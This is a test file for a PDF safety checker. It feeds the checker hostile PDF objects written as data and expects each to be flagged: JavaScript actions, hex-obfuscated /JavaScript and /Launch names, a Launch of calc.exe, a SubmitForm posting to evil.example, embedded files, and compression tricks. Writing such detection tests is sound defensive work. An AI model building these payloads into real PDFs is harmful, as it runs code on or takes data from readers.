import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { problemOfPdf } from './pdf.ts'

/** A PDF with one more object, which may be a stream. */
function aPdfWith(object: string, stream?: Buffer): Buffer {
  const head = '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n'
  const body = stream ? [`7 0 obj\n${object}\nstream\n`, stream, '\nendstream\nendobj\n'] : [`7 0 obj\n${object}\nendobj\n`]
  const end = 'trailer\n<< /Root 1 0 R /Size 8 >>\nstartxref\n0\n%%EOF\n'
  return Buffer.concat([head, ...body, end].map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))
}

/** A PDF with a packed stream of objects. */
const withPacked = (content: string, { filter = '/Filter /FlateDecode', pack = (bytes: Buffer): Buffer => deflateSync(bytes) } = {}) => {
  const bytes = pack(Buffer.from(`7 0 ${content}`))
  return aPdfWith(`<< /Type /ObjStm /N 1 /First 4 ${filter} /Length ${bytes.length} >>`, bytes)
}
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

test('a PDF with pictures, packed objects and links within it is fine', async () => {
  expect(await problemOfPdf(withPacked('<< /Type /Page >>'))).toBe(null)
  expect(await problemOfPdf(aPdfWith('<< /S /GoTo /D [3 0 R /Fit] >>'))).toBe(null)
  expect(await problemOfPdf(aPdfWith('<< /Subtype /Image /Filter /DCTDecode >>', randomBytes(4_000_000)))).toBe(null)
})

test.each([
  [script, 'contains a script'],
  ['<< /S /J#61vaScr#69pt /JS (x) >>', 'contains a script'],
  ['<< /Names << /JavaScript 9 0 R >> >>', 'contains a script'],
  ['<< /S /Launch /F (calc.exe) >>', 'starts a program'],
  ['<< /S /#4caunch /F (calc.exe) >>', 'starts a program'],
  ['<< /Type /EmbeddedFile >>', 'has other files in it'],
  ['<< /Subtype /RichMedia >>', 'contains media that can run a program'],
  ['<< /S /Rendition /JS (x) >>', 'contains media that can run a program'],
  ['<< /S /SubmitForm /F (https://evil.example) >>', 'sends what people enter to another computer'],
  ['<< /AcroForm << /XFA [(template) 8 0 R] >> >>', 'is a form that can run scripts'],
  ['<< /Encrypt 5 0 R >>', 'is protected with a password or restrictions'],
])('%s: it %s', async (object, problem) => {
  expect(await problemOfPdf(aPdfWith(object))).toBe(problem)
  expect(await problemOfPdf(withPacked(object))).toBe(problem)
})

test('a script inside the bytes of another stream is found', async () => {
  expect(await problemOfPdf(aPdfWith('<< /Length 90 >>', Buffer.from(script)))).toBe('contains a script')
})

test.each([
  ['twice', { filter: '/Filter [/FlateDecode /FlateDecode]', pack: (bytes: Buffer) => deflateSync(deflateSync(bytes)) }],
  [
    'as text',
    { filter: '/Filter [/ASCIIHexDecode /FlateDecode]', pack: (bytes: Buffer) => Buffer.from(deflateSync(bytes).toString('hex')) },
  ],
  ['with a predictor', { filter: '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>' }],
  ['in a way named elsewhere', { filter: '/Filter 12 0 R' }],
  ['too large', { pack: (bytes: Buffer) => deflateSync(Buffer.concat([bytes, Buffer.alloc(17 * 1024 * 1024)])) }],
])('objects packed %s can’t be checked', async (_, packed) => {
  expect(await problemOfPdf(withPacked(script, packed))).toMatch(/packed in a way that we can’t check/)
})

test('what only begins like a PDF, or was cut off, is refused', async () => {
  const whole = aPdfWith('<< /Type /Page >>')
  for (const bytes of [whole.subarray(0, whole.length / 2), Buffer.from('%PDF-'), Buffer.from('%PDF-1.7 <html>')]) {
    expect(await problemOfPdf(bytes)).toMatch(/^is damaged/)
  }
})
